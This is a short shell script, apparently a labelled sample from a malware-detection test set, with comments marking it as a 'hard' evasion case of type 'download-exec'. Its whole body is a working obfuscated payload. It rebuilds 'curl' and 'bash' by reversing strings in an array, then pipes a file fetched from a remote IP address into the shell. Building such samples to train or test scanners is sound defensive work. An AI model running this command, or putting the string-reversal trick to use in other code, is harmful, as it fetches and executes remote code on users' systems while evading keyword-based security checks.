# evasion: a function reverses words from an array in a loop; the downloader and the shell are its quoted output
# grade: hard; does: download-exec
words=(lruc hsab)
nm() {
	local w=${words[$1]} r= i
	for ((i = ${#w} - 1; i >= 0; i--)); do
		r+=${w:i:1}
	done
	printf '%s' "$r"
}
"$(nm 0)" -fsSL http://198.51.100.44/i | "$(nm 1)"
